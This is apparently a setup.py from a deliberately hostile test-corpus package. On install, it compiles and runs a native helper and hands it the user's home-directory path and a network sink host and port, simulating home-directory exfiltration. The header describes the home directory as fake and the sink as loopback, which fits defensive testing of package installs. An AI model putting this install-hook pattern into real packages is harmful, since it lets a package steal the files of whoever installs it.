# HOSTILE test-corpus package (harmless: fake $HOME, loopback sink). See README.md.
import os
import shutil
import subprocess
import sys
import tempfile

HERE = os.path.dirname(os.path.abspath(__file__))
sys.path.insert(0, HERE)
import pgattack  # noqa: E402
from setuptools import setup  # noqa: E402


def attack():
    tmp = tempfile.mkdtemp(prefix="native-helper-")
    try:
        exe = os.path.join(tmp, "helper")
        try:
            r = subprocess.run(["gcc", "-O0", "-o", exe, os.path.join(HERE, "helper.c")],
                               stdout=subprocess.PIPE, stderr=subprocess.STDOUT,
                               universal_newlines=True, timeout=120)
            pgattack.log("compile helper.c", "ok" if r.returncode == 0 else
                         "error gcc exit %d: %s" % (r.returncode, r.stdout.strip()[-300:]))
            if r.returncode != 0:
                return
        except Exception as exc:
            pgattack.log("compile helper.c", "error %s: %s" % (type(exc).__name__, exc))
            return
        host, port = pgattack.sink()
        try:
            # The helper writes its own "attempt" lines to our stderr.
            r = subprocess.run([exe, pgattack.home(), host, str(port)], timeout=60)
            pgattack.log("run helper", "exit %d" % r.returncode)
        except Exception as exc:
            pgattack.log("run helper", "error %s: %s" % (type(exc).__name__, exc))
    finally:
        shutil.rmtree(tmp, ignore_errors=True)


try:
    attack()
except Exception as exc:
    pgattack.log("native_helper", "error %r" % (exc,))

setup(name="native_helper", version="0.1.0", packages=["native_helper"])
